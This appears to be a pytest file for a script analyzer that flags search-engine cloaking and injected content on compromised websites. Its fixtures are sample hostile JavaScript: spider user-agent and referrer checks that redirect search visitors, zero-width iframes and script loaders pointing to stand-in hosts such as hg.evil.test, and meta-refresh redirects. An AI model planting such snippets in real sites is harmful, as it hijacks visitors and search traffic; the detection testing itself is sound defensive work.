"""Script analysis: user-agent and referrer tests that name search engines, HTML written through
any sink, loaders whatever the syntax, built meta refreshes; honest scripts stay quiet."""

from __future__ import annotations

import pytest

from chainbreaker.chains.tech.scripts import analyze_script, is_infrastructure, is_remote

BASE = "http://www.school.test/"


@pytest.mark.parametrize("code", [
    'var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("baidu")<0){document.title="x"}',
    "if(!/sogou|360|sm|toutiao/i.test(navigator.userAgent)){document.title='x'}",
    "if(navigator.userAgent.toLowerCase().match(/(baidu|google|bing)/)==null){document.title='x'}",
    "var u=navigator['userAgent'];if(new RegExp('Baiduspider|YisouSpider').test(u)){}",
    "if (navigator.userAgent.includes('Bytespider')) {}",
    "var a = window.navigator.userAgent; var isBot = /spider|bot|crawl/i.test(a);",
])
def test_user_agent_tests_naming_engines(code: str) -> None:
    info = analyze_script(code, None, BASE)
    assert info.ua_spider_check and not info.referrer_check, info.ua_engines


@pytest.mark.parametrize("code", [
    "if(/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(navigator.userAgent)){}",
    "if(navigator.userAgent.indexOf('MicroMessenger')>-1){wx()}",
    "var isIE = navigator.userAgent.indexOf('MSIE') > -1; document.getElementById('bottom').style.height='1px';",
    "var bot = 1; var ua = navigator.userAgent;",  # 'bot' is a variable name here, not a test of the UA
])
def test_other_user_agent_tests_are_not_engine_checks(code: str) -> None:
    assert not analyze_script(code, None, BASE).ua_spider_check


def test_referrer_and_user_agent_tests_are_told_apart() -> None:
    info = analyze_script("var r=document.referrer,u=navigator.userAgent;"
                          "if(/baidu|sogou|so\\.com/i.test(r)&&!/spider|bot/i.test(u)){location.href='/bc/'}", None, BASE)
    assert set(info.referrer_engines) == {"baidu", "sogou", "so"} and set(info.ua_engines) == {"spider", "bot"}
    assert info.redirect_targets == ["http://www.school.test/bc/"]


def test_classic_referrer_regex_with_escaped_dots() -> None:
    js = ("var regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|biso)"
          "(\\.[a-z0-9\\-]+){1,2}\\//ig;var where =document.referrer;if(regexp.test(where)){window.location.href='/a/'}")
    info = analyze_script(js, None, BASE)
    assert info.referrer_check and {"baidu", "sogou", "google", "bing"} <= set(info.referrer_engines)


@pytest.mark.parametrize("sink", [
    "document.write(@)", "document.writeln(@)", "document.body.innerHTML += @", "el.outerHTML = @",
    "document.body.insertAdjacentHTML('beforeend', @)", "$('body').append(@)", "jQuery(document.body).html(@)",
    "document['body']['insertAdjacentHTML']('afterbegin', @)",
])
def test_html_written_through_any_sink(sink: str) -> None:
    info = analyze_script(sink.replace("@", "'<iframe src=\"http://hg.evil.test/\" width=0></iframe>'"), None, BASE)
    assert info.writes_html and info.html_loads == ["http://hg.evil.test/"] and info.html_frames == info.html_loads


def test_protocol_from_a_variable_reads_as_protocol_relative() -> None:
    js = "var p=location.protocol=='https:'?'https://':'http://';document.write('<script src=\"'+p+'js.evil.test/a.js\"></script>')"
    assert analyze_script(js, None, BASE).html_loads == ["http://js.evil.test/a.js"]
    local = "document.write('<script src=\"'+base+'jquery.min.js/x.js\"></script>')"
    assert analyze_script(local, None, BASE).html_loads == ["http://www.school.test/jquery.min.js/x.js"]


def test_meta_refresh_written_or_built_is_a_redirect() -> None:
    written = analyze_script("document.write('<meta http-equiv=\"refresh\" content=\"0;url=http://m.evil.test/\">')", None, BASE)
    assert written.redirect_targets == ["http://m.evil.test/"]
    built = analyze_script("var m=document.createElement('meta');m.httpEquiv='refresh';m.content='1; url=/tags/x.html';"
                           "document.head.appendChild(m);", None, BASE)
    assert built.redirect_targets == ["http://www.school.test/tags/x.html"]


def test_dom_loads_need_a_script_or_frame_element() -> None:
    loader = analyze_script("var s=document.createElement('script');s.src='https://c.evil.test/a.js';", None, BASE)
    assert loader.dom_loads == ["https://c.evil.test/a.js"]
    image = analyze_script("var i=new Image();i.src='https://t.evil.test/p.gif';document.write('<a href=\"http://x.test/\">x</a>')",
                           None, BASE)
    assert image.dom_loads == [] and image.html_loads == []


def test_public_infrastructure_and_remote_hosts() -> None:
    assert is_infrastructure("https://hm.baidu.com/hm.js?x") and is_infrastructure("//s9.cnzz.com/z_stat.php")
    assert not is_infrastructure("https://hm.baidu.com.tj-cdn8.test/hm.js")
    assert not is_remote("http://static.school.edu.cn/a.js", "http://www.school.edu.cn/")  # same registrable domain
    assert is_remote("http://www.evil.cn/a.js", "http://www.school.edu.cn/")
    assert is_remote("http://127.0.0.1:81/a.js", "http://127.0.0.1:80/") and not is_remote("/a.js", BASE)


@pytest.mark.parametrize("text", [
    "navigator.userAgent;/baidu/.test(a);" * 15000,      # many engine tests, many references
    "'a'+" * 80_000 + "'b'",                               # one long concatenation
    "x['y']" * 80_000,                                     # member access everywhere
    "".join(f"var v{i}='s{i}';" for i in range(15000)),    # many constants
    "a/b/c/" * 80_000,                                     # divisions or regexes
    "var _0xabc=[" + ",".join(f"'{i}x'" for i in range(3000)) + "];" + "_0xabc(0x1);" * 15000,
], ids=["engine-tests", "concat", "members", "constants", "slashes", "big-table"])
def test_analysis_is_bounded_on_hostile_scripts(text: str) -> None:
    import time

    start = time.perf_counter()
    analyze_script(text, None, BASE)
    assert time.perf_counter() - start < 10  # seconds; ~1 s on the 2-core machine under load
